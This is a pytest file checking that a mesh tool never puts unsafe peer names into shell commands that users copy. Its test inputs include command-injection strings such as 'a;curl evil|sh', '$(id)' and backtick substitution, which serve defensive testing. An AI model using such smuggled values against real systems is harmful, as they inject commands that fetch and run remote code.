"""mesh/join_words.py: lines that people copy into a shell hold nothing that a stranger chose."""

from __future__ import annotations

import pytest

from mesh.doors import Waiter
from mesh.join_words import of_waiter, typed, waiters_note
from node.types import NodeId

NODE = NodeId("0123456789abcdef")


@pytest.mark.parametrize("name", ["a;curl evil|sh", "$(id)", "`id`", "-h", "two words", "a\nb", "ä", ""])
def test_a_name_that_a_shell_would_read_is_never_to_be_typed(name: str) -> None:
    assert typed(name, NODE) == NODE
    waiter = Waiter(node=NODE, name=name, cert=b"", check="123456", why="the window is closed", by=NODE)
    for line in (of_waiter(waiter), *waiters_note([waiter])):
        commands = line.split("`")[1::2] if "`" not in name else [f"accept {NODE}"]
        assert all(command.endswith(NODE) for command in commands), line


@pytest.mark.parametrize("name", ["mac-mini-2", "Studio.local", "M4_Max"])
def test_a_plain_name_is(name: str) -> None:
    assert typed(name, NODE) == name
